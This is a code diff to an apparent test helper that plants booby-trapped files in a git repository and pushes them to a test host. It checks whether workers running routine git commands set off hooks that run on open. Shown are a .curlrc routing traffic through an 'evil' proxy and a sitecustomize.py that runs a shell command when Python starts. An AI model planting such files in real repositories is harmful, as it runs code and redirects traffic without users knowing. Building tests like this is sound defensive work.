@@ -1,14 +1,26 @@
-import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { execFile } from 'node:child_process';
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import path from 'node:path';
+import { promisify } from 'node:util';
+import type { TestStack } from './stack.ts';
+
+const exec = promisify(execFile);
 
 /** What any of it writes where it runs. */
 export const RAN = 'hostile-ran';
+
+/** What a worker does on any repository; of the hostile one's files none is called. */
+export const ON_ANY = [
+  'ls -la; git status; git log -3; git diff HEAD~1 --stat; git submodule status',
+  'echo more > more.txt; echo more > more.bin; git add -A; git commit -qm "More"; git checkout -q -b other; git checkout -q -',
+];
 
 /**
  * Fills a clone with what makes tools run something, read something or go somewhere by being opened:
  * nothing of it is ever called by name. @param evil An address that nobody may ask.
  */
-export function fillHostile(clone: string, evil: string): void {
+function fillHostile(clone: string, evil: string): void {
   const write = (file: string, text: string, mode = 0o644) => {
     const at = path.join(clone, file);
     mkdirSync(path.dirname(at), { recursive: true });
@@ -88,4 +100,23 @@ export function fillHostile(clone: string, evil: string): void {
   write('.node-version', '0.0.1\n');
   write('.curlrc', `proxy = ${evil}\n`);
   write('sitecustomize.py', `import os\nos.system(${JSON.stringify(run('python'))})\n`);
+}
+
+/** Makes `acme/todo` of the stack's git host hostile. @param evil An address that nobody may ask. */
+export async function pushHostile({ gitHost }: TestStack, evil: string): Promise<void> {
+  const folder = mkdtempSync(path.join(tmpdir(), 'mainloop-eve-'));
+  const header = `http.extraHeader=Authorization: Bearer ${gitHost?.token}`;
+  const who = ['-c', 'user.name=Eve', '-c', 'user.email=eve@example.com', '-c', header];
+  const env = { PATH: process.env.PATH, HOME: folder, TZ: 'UTC' };
+  const git = (...args: string[]) => exec('git', [...who, ...args], { cwd: folder, env });
+  try {
+    await git('clone', '--quiet', `${gitHost?.url}/acme/todo.git`, 'clone');
+    const clone = path.join(folder, 'clone');
+    fillHostile(clone, evil);
+    await git('-C', clone, 'add', '--all', '--force');
+    await git('-C', clone, 'commit', '--quiet', '-m', 'Hostile');
+    await git('-C', clone, 'push', '--quiet', 'origin', 'HEAD:refs/heads/main');
+  } finally {
+    rmSync(folder, { recursive: true, force: true });
+  }
 }
